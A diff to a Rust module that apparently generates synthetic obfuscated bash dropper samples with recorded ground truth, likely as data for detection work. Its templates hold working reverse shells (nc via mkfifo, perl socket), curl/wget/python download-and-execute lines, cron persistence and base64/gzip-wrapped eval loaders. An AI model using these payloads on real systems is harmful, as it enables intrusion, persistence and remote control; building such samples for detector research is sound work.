@@ -39,7 +39,8 @@ fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
             let mark = dice.mark(text);
             let littered = dice.littered(text, &mark);
             let _ = writeln!(before, "{name}='{littered}'");
-            let mark = mark.replace('#', "\\#");
+            // A bare `#` and `~` mean something at the beginning of a pattern.
+            let mark = mark.replace('#', "\\#").replace('~', "\\~");
             format!("\"${{{name}//{mark}/}}\"")
         }
         9 => format!("\"$(echo {} | xxd -r -p)\"", hex(text.as_bytes())),
@@ -79,16 +80,23 @@ fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
 }
 
 pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
-    let mut text = dice.pick(&["#!/bin/bash\n", "#!/bin/bash\ncd /tmp || cd /var/run\n"]).to_owned();
+    let mut text =
+        dice.pick(&["#!/bin/bash\n", "#!/bin/bash\ncd /tmp || cd /var/run\n"]).to_owned();
     for _ in 0..1 + dice.below(2) {
         let mut before = String::new();
         let line = delivery(dice, truth, &mut before);
         text.push_str(&before);
         text.push_str(&line);
+        if super::ends(&line) {
+            break;
+        }
     }
     match dice.below(8) {
         0 => format!("#!/bin/bash\neval \"$(echo {} | base64 -d)\"\n", base64(text.as_bytes())),
-        1 => format!("#!/bin/sh\necho {} | base64 -d | gzip -d | bash\n", base64(&gzip(text.as_bytes()))),
+        1 => format!(
+            "#!/bin/sh\necho {} | base64 -d | gzip -d | bash\n",
+            base64(&gzip(text.as_bytes()))
+        ),
         2 => format!("#!/bin/bash\nrun() {{\n{text}\n}}\nrun \"$@\"\n"),
         _ => text,
     }
@@ -105,7 +113,9 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
         1 => {
             let url = truth.url(dice, PROGRAMS);
             let url = hide(dice, &url, before);
-            format!("curl -fsSL -o {file} {url} && chmod +x {file} && nohup {file} >/dev/null 2>&1 &\n")
+            format!(
+                "curl -fsSL -o {file} {url} && chmod +x {file} && nohup {file} >/dev/null 2>&1 &\n"
+            )
         }
         2 => {
             let url = truth.url(dice, &[".sh"]);
@@ -149,23 +159,31 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
         7 => {
             let (host, port) = truth.endpoint(dice);
             let host = hide(dice, &host, before);
-            format!("rm -f {file};mkfifo {file};cat {file}|/bin/sh -i 2>&1|nc {host} {port} >{file}\n")
+            format!(
+                "rm -f {file};mkfifo {file};cat {file}|/bin/sh -i 2>&1|nc {host} {port} >{file}\n"
+            )
         }
         8 => {
             let url = truth.url(dice, &[".sh", ""]);
             let url = hide(dice, &url, before);
-            format!("(crontab -l 2>/dev/null; echo \"*/10 * * * * curl -fsSL \"{url}\" | sh\") | crontab -\n")
+            format!(
+                "(crontab -l 2>/dev/null; echo \"*/10 * * * * curl -fsSL \"{url}\" | sh\") | crontab -\n"
+            )
         }
         9 => {
             let url = truth.url(dice, &[".py", ".txt"]);
             let url = hide(dice, &url, before);
-            format!("python3 -c \"import urllib.request as r;exec(r.urlopen('\"{url}\"').read())\"\n")
+            format!(
+                "python3 -c \"import urllib.request as r;exec(r.urlopen('\"{url}\"').read())\"\n"
+            )
         }
         10 => {
             let url = truth.url(dice, PROGRAMS);
             let url = hide(dice, &url, before);
             let function = dice.name();
-            format!("{function}() {{\n  curl -sk \"$1\" -o \"$2\" || wget -q \"$1\" -O \"$2\"\n  chmod 755 \"$2\"; \"$2\"\n}}\n{function} {url} {file}\n")
+            format!(
+                "{function}() {{\n  curl -sk \"$1\" -o \"$2\" || wget -q \"$1\" -O \"$2\"\n  chmod 755 \"$2\"; \"$2\"\n}}\n{function} {url} {file}\n"
+            )
         }
         11 => {
             let host = dice.host();
@@ -177,22 +195,31 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
         12 => {
             let url = truth.url(dice, &[".tgz", ".tar.gz"]);
             let url = hide(dice, &url, before);
-            format!("mkdir -p {file}; cd {file}; wget --no-check-certificate {url} -O a.tgz && tar xzf a.tgz && ./run.sh\n")
+            format!(
+                "mkdir -p {file}; cd {file}; wget --no-check-certificate {url} -O a.tgz && tar xzf a.tgz && ./run.sh\n"
+            )
         }
         13 => {
             let url = truth.url(dice, PROGRAMS);
             let url = hide(dice, &url, before);
-            format!("if [ \"$(id -u)\" -eq 0 ]; then d=/usr/local/bin; else d=/tmp; fi\ncurl -L {url} --output $d/{0}\nchmod 0755 $d/{0}\nsetsid $d/{0} &\n", dice.name())
+            format!(
+                "if [ \"$(id -u)\" -eq 0 ]; then d=/usr/local/bin; else d=/tmp; fi\ncurl -L {url} --output $d/{0}\nchmod 0755 $d/{0}\nsetsid $d/{0} &\n",
+                dice.name()
+            )
         }
         14 => {
             let url = truth.url(dice, PROGRAMS);
             let url = hide(dice, &url, before);
-            format!("cat > {file}.sh <<EOF\n#!/bin/sh\nwget -q {url} -O {file}\nsh {file}\nEOF\nbash {file}.sh\n")
+            format!(
+                "cat > {file}.sh <<EOF\n#!/bin/sh\nwget -q {url} -O {file}\nsh {file}\nEOF\nbash {file}.sh\n"
+            )
         }
         _ => {
             let (host, port) = truth.endpoint(dice);
             let host = hide(dice, &host, before);
-            format!("perl -e 'use Socket;$i=\"'{host}'\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");exec(\"/bin/sh -i\");}}'\n")
+            format!(
+                "perl -e 'use Socket;$i=\"'{host}'\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");exec(\"/bin/sh -i\");}}'\n"
+            )
         }
     }
 }
